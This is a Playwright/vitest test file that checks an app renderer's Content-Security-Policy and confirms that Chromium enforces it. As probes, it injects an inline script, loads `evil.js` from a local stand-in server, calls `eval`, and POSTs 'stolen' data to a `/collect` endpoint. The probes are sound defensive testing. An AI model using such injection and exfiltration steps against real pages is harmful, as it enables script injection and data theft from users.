import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { useE2eSession } from './pages/e2e-session';
import { Screenshots } from './pages/screenshots';

// The built renderer's Content-Security-Policy, as browser mode serves it (the Electron
// app:// protocol sends the same header, main/web/static-assets.ts): what it says, and that
// Chromium enforces it. An XSS in the renderer must not run inline script, eval, or talk to
// anything but main.

/** Parses a CSP into directive → sources. */
function directives(policy: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) {
      map.set(name.toLowerCase(), sources);
    }
  }
  return map;
}

/** The sources a fetch directive falls back to (CSP3: most specific first, then default-src). */
function effective(map: Map<string, string[]>, ...names: string[]): string[] | undefined {
  for (const name of [...names, 'default-src']) {
    const sources = map.get(name);
    if (sources) {
      return sources;
    }
  }
  return undefined;
}

interface Violation {
  directive: string;
  blocked: string;
}

type Probe = Window & { __violations?: Violation[]; __inlineRan?: boolean };

async function recordViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const probe = window as Probe;
    probe.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      probe.__violations?.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
}

function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as Probe).__violations ?? []);
}

describe('Content-Security-Policy of the built renderer', () => {
  const session = useE2eSession();
  // Another origin on this machine that would answer if the page could reach it.
  let foreign: Server;
  let foreignOrigin = '';
  let foreignHits = 0;

  beforeEach(async () => {
    foreignHits = 0;
    foreign = createServer((_req, res) => {
      foreignHits += 1;
      res.writeHead(200, {
        'Access-Control-Allow-Origin': '*',
        'Content-Type': 'text/javascript',
      });
      res.end('window.__inlineRan = true;');
    });
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
    foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  });
  afterEach(async () => {
    await new Promise<void>((resolve) => foreign.close(() => resolve()));
  });

  it('sends a strict policy and Chromium enforces it', async () => {
    const { app, page } = session();
    const shots = new Screenshots('csp');
    const response = await page.goto(app.url);
    await page.locator('[data-testid="app-root"][data-app-ready="true"]').waitFor();

    // What the policy says.
    const header = (await response?.headerValue('content-security-policy')) ?? '';
    const policy = directives(header);
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect(effective(policy, 'script-src-elem', 'script-src')).toEqual(["'self'"]);
    expect(effective(policy, 'script-src-attr', 'script-src')).toEqual(["'self'"]);
    expect(header).not.toMatch(/unsafe-eval|unsafe-hashes|wasm-unsafe-eval|strict-dynamic/);
    expect(policy.get('script-src')).not.toContain("'unsafe-inline'");
    expect(effective(policy, 'object-src')).toEqual(["'none'"]);
    expect(effective(policy, 'frame-src', 'child-src')).toEqual(["'none'"]);
    expect(effective(policy, 'connect-src')).toEqual(["'self'"]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'none'"]);
    expect(policy.get('form-action')).toEqual(["'none'"]);
    // The meta tag (for pages saved or opened without the header) says the same, minus
    // frame-ancestors, which a meta policy cannot carry.
    const meta = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    const metaPolicy = directives(meta ?? '');
    policy.delete('frame-ancestors');
    expect(metaPolicy).toEqual(policy);

    await recordViolations(page);

    // An injected inline script does not run.
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.append(script);
    });
    // Nor does a script from another origin.
    await page.evaluate((src) => {
      const script = document.createElement('script');
      script.src = `${src}/evil.js`;
      document.body.append(script);
    }, foreignOrigin);
    // eval and new Function are refused. They run from a timer task of the page: code that
    // DevTools (page.evaluate) is evaluating right now is exempt from the eval check.
    const evalOutcome = await page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          setTimeout(() => {
            const outcomes: string[] = [];
            for (const attempt of [
              () => (0, eval)('1 + 1') as unknown,
              // The point of the test: the page must not be able to do this.
              // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call
              () => new Function('return 1')() as unknown,
            ]) {
              try {
                attempt();
                outcomes.push('ran');
              } catch (caught) {
                outcomes.push(caught instanceof Error ? caught.name : 'threw');
              }
            }
            resolve(outcomes);
          }, 0);
        }),
    );
    expect(evalOutcome).toEqual(['EvalError', 'EvalError']);
    // A fetch to another origin is blocked before it leaves the page.
    const fetchOutcome = await page.evaluate(async (url) => {
      try {
        await fetch(`${url}/collect`, { method: 'POST', body: 'stolen' });
        return 'sent';
      } catch (caught) {
        return caught instanceof Error ? caught.name : 'threw';
      }
    }, foreignOrigin);
    expect(fetchOutcome).toBe('TypeError');

    // Each violation is reported once per policy that forbids it: the header and the meta tag.
    await expect
      .poll(async () => [...new Set((await violations(page)).map((v) => v.directive))].sort())
      .toEqual(['connect-src', 'script-src', 'script-src-elem']);
    const seen = await violations(page);
    expect(seen).toContainEqual({ directive: 'script-src-elem', blocked: 'inline' });
    expect(seen).toContainEqual({
      directive: 'script-src-elem',
      blocked: `${foreignOrigin}/evil.js`,
    });
    expect(seen).toContainEqual({ directive: 'script-src', blocked: 'eval' });
    expect(seen).toContainEqual({ directive: 'connect-src', blocked: `${foreignOrigin}/collect` });
    expect(await page.evaluate(() => (window as Probe).__inlineRan)).toBeUndefined();
    expect(foreignHits).toBe(0);

    // The app still works under the policy: it loaded, styled, and talked to main.
    await expect.poll(() => page.getByTestId('connection-badge').count()).toBeGreaterThan(0);
    await shots.take(page, 'csp-enforced');
  });
});
